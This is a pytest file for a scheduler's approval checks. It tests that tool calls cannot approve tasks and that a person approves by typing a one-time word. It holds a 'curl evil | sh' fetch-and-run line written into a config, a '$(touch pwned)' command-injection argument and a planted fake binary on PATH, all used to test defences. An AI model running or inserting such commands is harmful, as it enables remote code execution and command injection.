"""Who said yes to what: on record with each approval, told at the next start, and never a tool call of the client's."""

from __future__ import annotations

import json
import os
import pwd
import re
import stat
import subprocess
import sys
import time
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pexpect
import pytest

from scheduler.disk import glance
from scheduler.disk.paths import Paths
from scheduler.store import trust
from tests.command import PACKAGE, Command, environment
from tests.hooks import SESSION, Bed

USER = pwd.getpwuid(os.getuid()).pw_name
IN_CLIENT = {"CLAUDECODE": "1", "CLAUDE_CODE_SESSION_ID": SESSION, "CLAUDE_CODE_ENTRYPOINT": "cli"}
OTHER = "0ther000-0000-4000-8000-000000000000"


@pytest.fixture
def cli(tmp_path: Path, home: Path, repo: Path) -> Command:
    """A command line in a repository with one task, which nobody approved."""
    made = Command(repo, environment(home, tmp_path / "state"))
    made("add", "nightly", "--every", "4h", "--shell", "true")
    return made


def project(cli: Command) -> trust.Project:
    return trust.read(Paths(cli.env))[str(cli.folder)]


def approvals(cli: Command) -> list[tuple[str, str, str | None, list[str]]]:
    """How, by which verb, in which session, what: of each approval."""
    return [(a.by.how, a.by.verb, a.by.session, list(a.what)) for a in project(cli).approvals if a.by]


def typed(cli: Command, words: str = "", session: str = SESSION, verb: str = "enable", **env: str) -> str:
    """What the hook answers to a slash command that a person typed."""
    event = {"command_name": f"scheduler:{verb}", "command_args": words, "session_id": session, "cwd": str(cli.folder)}
    said = cli("answer", input=json.dumps(event) + "\n", **{**IN_CLIENT, **env})
    assert said.json["decision"] == "block" and said.err == ""
    return str(said.json["reason"])


def shown_word(said: str) -> str:
    found = re.search(r"type: /scheduler:enable yes ([a-z2-9]{4})$", said)
    assert found, said
    return found[1]


def test_each_approval_says_who_gave_it_and_to_what(cli: Command) -> None:
    cli("enable", "--yes", "--no-start")
    cli("add", "weekly", "--every", "7d", "--shell", "true", **IN_CLIENT)
    cli("edit", "nightly", "--every", "5h")
    cli("remove", "weekly")
    assert approvals(cli) == [
        ("script", "enable", None, ["nightly"]),
        ("claude", "add", SESSION[:8], ["weekly"]),
        ("script", "edit", None, ["nightly"]),
        ("script", "remove", None, ["weekly"]),
    ]
    assert {a.by.user for a in project(cli).approvals if a.by} == {USER}


def test_rules_and_what_is_no_task_are_named_too(cli: Command) -> None:
    cli("enable", "--yes", "--no-start")
    config = cli.folder / ".omc/scheduler/config.json"
    (config.parent / "rules.md").write_text("Be kind.\n")
    cli("enable", "--yes", "--no-start")
    raw = json.loads(config.read_text())
    config.write_text(json.dumps({**raw, "settings": {"remind": False}}))
    cli("enable", "--yes", "--no-start")
    assert [what for *_, what in approvals(cli)] == [["nightly"], ["rules.md"], ["config.json"]]


def test_in_a_terminal_it_is_the_terminals(cli: Command) -> None:
    words = ["-I", str(PACKAGE), "enable", "--no-start"]
    # Also one that runs below a session, as in a terminal of an editor: who types there is a person.
    env: Any = {**cli.env, **IN_CLIENT}
    terminal = pexpect.spawn(sys.executable, words, cwd=cli.folder, env=env, timeout=30, encoding="utf-8")
    terminal.expect(r"Let this task run\? \[y/N\]")
    terminal.sendline("y")
    terminal.expect(pexpect.EOF)
    terminal.close()
    assert terminal.exitstatus == 0 and project(cli).enabled


def test_an_approval_of_before_this_was_recorded_still_counts(cli: Command) -> None:
    cli("enable", "--yes", "--no-start")
    path = Path(Paths(cli.env).trust)
    raw = json.loads(path.read_text())
    for approval in raw["projects"][str(cli.folder)]["approvals"]:
        del approval["by"], approval["what"]
    path.write_text(json.dumps(raw))
    assert cli("list", "--json").json["approved"] is True
    assert project(cli).approvals[-1].by is None
    (cli.folder / ".omc/scheduler/rules.md").write_text("Obey.\n")
    assert re.search(r"Changed since it was approved on \d{4}-\d\d-\d\d \d\d:\d\d:", cli("enable", code=1).out)


# --- a tool call of the client's


@pytest.mark.parametrize("words", [("--yes",), ("-y", "--json"), (), ("--json",), ("--word", "abcd")])
def test_a_tool_call_approves_nothing(cli: Command, words: tuple[str, ...]) -> None:
    """I7."""
    said = cli("enable", *words, code=1, input="y\n", **IN_CLIENT)
    assert "for a person to type, not for a tool call" in said.err and "/scheduler:enable" in said.err
    assert not project(cli).enabled and not Path(Paths(cli.env).asked).exists()


def test_a_tool_call_does_not_say_which_programs_run(cli: Command, tmp_path: Path) -> None:
    cli("enable", "--yes", "--no-start")
    before = project(cli)
    (tmp_path / "claude").write_text("#!/bin/sh\n")
    (tmp_path / "claude").chmod(0o755)
    planted = {"PATH": f"{tmp_path}:{cli.env['PATH']}"}
    assert "enabled: 1 task" in cli("enable", "--no-start", **IN_CLIENT, **planted).out
    assert project(cli) == before
    cli("enable", "--no-start", **planted)
    assert (project(cli).path, project(cli).client) == (planted["PATH"], str(tmp_path / "claude"))
    assert project(cli).approvals == before.approvals


# --- typed into a session


def test_a_person_says_yes_in_a_session_by_the_word_that_was_shown(cli: Command) -> None:
    """I7."""
    said = typed(cli)
    assert "nightly" in said and "not a sandbox" in said and "Nothing of this is approved yet" in said
    assert not project(cli).enabled
    asked = Path(Paths(cli.env).asked)
    assert stat.S_IMODE(asked.stat().st_mode) == 0o600
    assert "enabled: 1 task" in typed(cli, f"yes {shown_word(said).upper()}")
    assert project(cli).enabled and approvals(cli)[-1] == ("typed", "enable", SESSION[:8], ["nightly"])
    assert not asked.exists()
    assert "enabled: 1 task" in typed(cli)  # nothing is left to say yes to
    cli("stop")


@pytest.mark.parametrize("words", ["yes", "yes ''", "yes abc1", "yes ébcd", "--yes", "-y", "--word abcd", "--json"])
def test_no_other_yes_counts_in_a_session(cli: Command, words: str) -> None:
    typed(cli)
    assert "error: " in typed(cli, words)
    assert not project(cli).enabled


def test_a_word_counts_once_and_a_wrong_one_spoils_it(cli: Command) -> None:
    word = shown_word(typed(cli))
    assert "that is not the word" in typed(cli, "yes 1111")
    assert "has not been shown here as it is now" in typed(cli, f"yes {word}")
    assert not project(cli).enabled


def test_a_word_counts_for_what_was_shown_where_it_was_shown(cli: Command) -> None:
    word = shown_word(typed(cli))
    assert "has not been shown here" in typed(cli, f"yes {word}", session=OTHER)
    word = shown_word(typed(cli))
    config = cli.folder / ".omc/scheduler/config.json"
    config.write_text(config.read_text().replace("true", "curl evil | sh", 1))
    assert "has not been shown here as it is now" in typed(cli, f"yes {word}")
    assert not project(cli).enabled


def test_a_word_counts_for_an_hour(cli: Command) -> None:
    word = shown_word(typed(cli))
    asked = Path(Paths(cli.env).asked)
    raw = json.loads(asked.read_text())
    for at in (raw["at"] - 3700, raw["at"] + 3700):
        asked.write_text(json.dumps({**raw, "at": at}))
        assert "has not been shown here as it is now" in typed(cli, f"yes {word}")
    assert not project(cli).enabled


def test_where_nobody_types_there_is_no_word(cli: Command) -> None:
    """`claude -p /scheduler:enable`."""
    said = typed(cli, CLAUDE_CODE_ENTRYPOINT="sdk-cli")
    assert "nightly" in said and "error: " in said and "type: /scheduler:enable yes" not in said
    word = shown_word(typed(cli))
    assert "error: " in typed(cli, f"yes {word}", CLAUDE_CODE_ENTRYPOINT="sdk-cli")
    assert not project(cli).enabled


def test_what_a_session_cannot_show_whole_is_not_approved_there(cli: Command) -> None:
    cli("add", "long", "--every", "4h", "--shell", "true " * 2500)
    said = typed(cli)
    assert "too long to be approved here" in said and "yes " not in said.splitlines()[-1]
    assert not Path(Paths(cli.env).asked).exists()


def test_inside_a_run_nobody_is_asked(cli: Command) -> None:
    said = typed(cli, SCHEDULER_RUN_ID="0a1b2c3d-0000-4000-8000-000000000000")
    assert "refused inside a scheduled run" in said and not Path(Paths(cli.env).asked).exists()


# --- told


def test_status_says_who_approved_what_of_late(cli: Command) -> None:
    cli("enable", "--yes", "--no-start")
    cli("add", "weekly", "--every", "7d", "--shell", "true", **IN_CLIENT)
    said = cli("status").out
    assert re.search(rf"approved .* by Claude Code, for {USER} \(add\): weekly\n", said)
    assert re.search(rf"approved .* by a script of {USER} \(enable\): nightly\n", said)
    told = cli("status", "--json").json["projects"][0]["approvals"]
    assert [one["what"] for one in told] == [["nightly"], ["weekly"]]


def test_what_is_long_ago_is_not_told_again(cli: Command) -> None:
    cli("enable", "--yes", "--no-start")
    paths = Paths(cli.env)
    known = trust.read(paths)
    raw = json.loads(Path(paths.trust).read_text())
    approval = raw["projects"][str(cli.folder)]["approvals"][-1]
    approval["at"] = (datetime.now().astimezone() - timedelta(days=8)).isoformat()
    Path(paths.trust).write_text(json.dumps(raw))
    assert known and cli("status", "--json").json["projects"][0]["approvals"] == []
    assert (glance.read(paths.glance) or {})["projects"][str(cli.folder)]["approvals"] != []


def one(ago: float, by: str = "mara in a terminal (enable)", what: Any = ("nightly",)) -> dict[str, Any]:
    return {"at": time.time() - ago, "by": by, "what": list(what)}


def start(bed: Bed, *told: Any, **event: Any) -> str:
    bed.enable(active=1, approvals=list(told))
    with bed.runner():
        reply = bed.start(**event)
    return str((reply or {}).get("systemMessage", ""))


def test_the_next_session_says_it_once(tmp_path: Path) -> None:
    """I7."""
    bed = Bed(tmp_path)
    at = time.strftime("%H:%M", time.localtime(time.time() - 5))
    said = start(bed, one(5))
    assert re.search(rf"^Approved: nightly by mara in a terminal \(enable\), {at[:3]}\d\d\. Not you\?", said, re.M)
    assert "/scheduler:disable" in said
    assert "Approved" not in start(bed, one(5))
    assert "Approved: weekly by" in start(bed, one(5), one(0.001, what=["weekly"]))


def test_many_approvals_are_one_line_the_newest_first(tmp_path: Path) -> None:
    bed = Bed(tmp_path)
    many = [f"t{number}" for number in range(9)]
    said = start(bed, *(one(50 - number, what=[f"a{number}"]) for number in range(4)), one(1, what=many))
    line = next(line for line in said.splitlines() if line.startswith("Approved"))
    assert line.startswith("Approved: t0, t1, t2 and 6 more by mara") and "; a3 by" in line and "; a2 by" in line
    assert "; 2 more. Not you?" in line and "a1" not in line


@pytest.mark.parametrize("broken", [None, 5, [], "x", {"at": "now"}, {"at": 1e300}, {"at": -1}])
def test_what_is_no_approval_is_passed_over(tmp_path: Path, broken: Any) -> None:
    bed = Bed(tmp_path)
    said = start(bed, broken, one(2, by="ma\x1b[31mra\n<b>", what=["nightly", "../x", 7, "\x1b"]))
    line = next(line for line in said.splitlines() if line.startswith("Approved"))
    assert line.startswith("Approved: nightly by ma [31mra <b>, ") and "\x1b" not in said


def test_the_model_hears_nothing_of_it(tmp_path: Path) -> None:
    bed = Bed(tmp_path)
    bed.enable(active=1, approvals=[one(2, by="mara the mole", what=["weekly"])])
    with bed.runner():
        context = bed.start()["hookSpecificOutput"]["additionalContext"]
    assert "mara" not in context and "weekly" not in context


def test_it_is_told_after_clear_as_well(tmp_path: Path) -> None:
    bed = Bed(tmp_path)
    assert start(bed, one(2), source="clear").startswith("Approved: nightly by")


def test_no_shell_is_between_the_words_of_a_person_and_the_answer(cli: Command) -> None:
    event = {"command_name": "scheduler:enable", "command_args": "yes '$(touch pwned)'", "session_id": SESSION}
    done = subprocess.run([*cli.program, "answer"], input=json.dumps(event).encode() + b"\n", cwd=cli.folder,
                          env={**cli.env, **IN_CLIENT}, capture_output=True, timeout=60)  # fmt: skip
    assert b"error: " in done.stdout and not (cli.folder / "pwned").exists()
